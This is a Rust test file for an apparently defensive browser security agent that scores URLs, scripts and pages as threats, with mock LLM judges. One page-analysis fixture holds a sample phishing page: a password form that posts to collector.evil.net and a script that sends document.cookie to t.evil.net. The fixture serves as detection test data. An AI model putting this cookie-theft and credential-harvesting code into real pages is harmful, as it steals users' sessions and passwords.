// End-to-end orchestration tests — the agent pipeline without the HTTP
// layer. Exercises cache behavior, graceful LLM degradation, and the
// scenario-level report shapes a browser core relies on.

use std::sync::Arc;

use palisade::agent::{NotInitialized, SecurityAgent};
use palisade::config::Config;
use palisade::llm::{LlmJudgement, ThreatJudge};
use palisade::report::{ThreatLevel, ThreatType};

fn agent_config() -> Config {
    Config::default()
}

// ============================================================
// Scenario: IP-literal login URL
// ============================================================

#[tokio::test]
async fn ip_literal_login_url_is_at_least_low() {
    let agent = SecurityAgent::new(agent_config());
    agent.initialize().await.unwrap();

    let report = agent
        .analyze_url("http://192.168.1.1/login", false)
        .await
        .unwrap();

    assert!(report.overall_level >= ThreatLevel::Low);
    let phishing = report
        .findings
        .iter()
        .find(|f| f.threat_type == ThreatType::Phishing)
        .expect("phishing finding expected");
    assert!(phishing.confidence >= 0.30);
    assert!(phishing.indicators.iter().any(|i| i.contains("IP address")));
}

// ============================================================
// Scenario: benign well-known URL
// ============================================================

#[tokio::test]
async fn benign_url_yields_safe_report_with_single_message() {
    let agent = SecurityAgent::new(agent_config());
    agent.initialize().await.unwrap();

    let report = agent
        .analyze_url("https://www.google.com", false)
        .await
        .unwrap();

    assert_eq!(report.overall_level, ThreatLevel::Safe);
    assert_eq!(report.overall_score, 0.0);
    assert!(report.findings.is_empty());
    assert_eq!(report.recommendations.len(), 1);
    assert!(report.recommendations[0].contains("safe"));
}

// ============================================================
// Scenario: concurrent identical scripts
// ============================================================

#[tokio::test]
async fn concurrent_identical_scripts_converge_on_cache() {
    let agent = Arc::new(SecurityAgent::new(agent_config()));
    agent.initialize().await.unwrap();

    let code = r#"eval(atob("ZG9jdW1lbnQud3JpdGUoJ3gnKQ=="));"#;
    let (a, b) = tokio::join!(agent.analyze_script(code, ""), agent.analyze_script(code, ""));
    let (a, b) = (a.unwrap(), b.unwrap());

    assert_eq!(a.overall_score, b.overall_score);
    assert_eq!(a.overall_level, b.overall_level);

    // Once the race settles, the next identical request is a cache hit.
    let third = agent.analyze_script(code, "").await.unwrap();
    assert!(third.cached);
    assert_eq!(third.overall_score, a.overall_score);
}

// ============================================================
// Lifecycle errors
// ============================================================

#[tokio::test]
async fn every_operation_requires_initialization() {
    let agent = SecurityAgent::new(agent_config());

    for result in [
        agent.analyze_url("https://example.com", false).await,
        agent.analyze_script("var x = 1;", "").await,
        agent.analyze_page("https://example.com", "<html></html>", false).await,
    ] {
        let err = result.unwrap_err();
        assert!(err.downcast_ref::<NotInitialized>().is_some());
    }
}

#[tokio::test]
async fn reinitialize_after_shutdown_works() {
    let agent = SecurityAgent::new(agent_config());
    agent.initialize().await.unwrap();
    agent.shutdown().await;
    assert!(!agent.is_initialized().await);

    agent.initialize().await.unwrap();
    let report = agent.analyze_url("https://example.com", false).await.unwrap();
    assert_eq!(report.overall_level, ThreatLevel::Safe);
}

// ============================================================
// LLM degradation and augmentation
// ============================================================

struct FailingJudge;

#[async_trait::async_trait]
impl ThreatJudge for FailingJudge {
    async fn judge(&self, _: &str, _: &str) -> anyhow::Result<LlmJudgement> {
        anyhow::bail!("backend unreachable")
    }
}

struct CriticalJudge;

#[async_trait::async_trait]
impl ThreatJudge for CriticalJudge {
    async fn judge(&self, _: &str, _: &str) -> anyhow::Result<LlmJudgement> {
        Ok(LlmJudgement {
            threat_level: Some("CRITICAL".to_string()),
            threat_types: vec!["malware".to_string()],
            confidence: Some(0.95),
            reasoning: Some("dropper behavior".to_string()),
            suspicious_patterns: vec!["eval(atob(...))".to_string()],
            ..Default::default()
        })
    }
}

#[tokio::test]
async fn broken_llm_never_fails_the_call() {
    let agent = SecurityAgent::new(agent_config());
    agent
        .initialize_with(Some(Arc::new(FailingJudge)))
        .await
        .unwrap();

    // Heuristic finding survives the failed augmentation
    let report = agent
        .analyze_url("http://192.168.1.1/login", true)
        .await
        .unwrap();
    assert!(report.overall_level >= ThreatLevel::Low);

    // Even a fully-safe target still returns a report
    let report = agent.analyze_url("https://www.google.com", true).await.unwrap();
    assert_eq!(report.overall_level, ThreatLevel::Safe);
}

#[tokio::test]
async fn llm_augmentation_raises_overall_level() {
    let agent = SecurityAgent::new(agent_config());
    agent
        .initialize_with(Some(Arc::new(CriticalJudge)))
        .await
        .unwrap();

    let report = agent
        .analyze_script("var x = fetch('/a');", "https://cdn.example.com/a.js")
        .await
        .unwrap();

    assert_eq!(report.overall_level, ThreatLevel::Critical);
    let llm_finding = report
        .findings
        .iter()
        .find(|f| f.metadata.get("source").map(|v| v == "llm").unwrap_or(false))
        .expect("LLM finding expected");
    assert_eq!(llm_finding.threat_type, ThreatType::Malware);
}

// ============================================================
// Page fan-out
// ============================================================

#[tokio::test]
async fn page_analysis_combines_analyzer_families() {
    let agent = SecurityAgent::new(agent_config());
    agent.initialize().await.unwrap();

    let html = r#"
        <html><head><title>Account Verification</title></head><body>
        <form action="https://collector.evil.net/post" id="login-form" class="login">
          <input type="password" name="pw">
        </form>
        <p>Unusual activity on your account. Verify your account. Act now.</p>
        <script src="https://www.google-analytics.com/analytics.js"></script>
        <script src="https://www.googletagmanager.com/gtm.js"></script>
        <script src="https://connect.facebook.net/en_US/fbevents.js"></script>
        <script src="https://static.hotjar.com/c/hotjar.js"></script>
        <script src="https://bat.bing.com/bat.js"></script>
        <script>
          var ctx = canvas.getContext('2d');
          var fp = canvas.toDataURL();
          var secret = document.cookie;
          navigator.sendBeacon('https://t.evil.net/c', secret);
        </script>
        <iframe src="https://frames.evil.net/f"></iframe>
        </body></html>
    "#;

    let report = agent
        .analyze_page("http://secure-login-verify.example.xyz/auth", html, false)
        .await
        .unwrap();

    assert!(report.overall_level >= ThreatLevel::Low);
    let types: std::collections::HashSet<ThreatType> =
        report.findings.iter().map(|f| f.threat_type).collect();
    assert!(
        types.contains(&ThreatType::Phishing),
        "phishing expected in {types:?}"
    );
    assert!(
        types.contains(&ThreatType::Privacy),
        "privacy expected in {types:?}"
    );

    // Advisories follow the threat types present
    assert!(report
        .recommendations
        .iter()
        .any(|r| r.contains("phishing")));
    assert!(report.recommendations.iter().any(|r| r.contains("tracking")));

    // Page fingerprint covers URL + leading content, so the same page
    // is a cache hit...
    let again = agent
        .analyze_page("http://secure-login-verify.example.xyz/auth", html, false)
        .await
        .unwrap();
    assert!(again.cached);

    // ...while changed leading content misses.
    let changed = format!("<!-- v2 -->{html}");
    let fresh = agent
        .analyze_page("http://secure-login-verify.example.xyz/auth", &changed, false)
        .await
        .unwrap();
    assert!(!fresh.cached);
}

#[tokio::test]
async fn analysis_time_is_always_stamped() {
    let agent = SecurityAgent::new(agent_config());
    agent.initialize().await.unwrap();

    let report = agent.analyze_url("https://example.com", false).await.unwrap();
    assert!(report.analysis_time_ms >= 0.0);
    assert!(!report.cached);

    let cached = agent.analyze_url("https://example.com", false).await.unwrap();
    assert!(cached.cached);
}
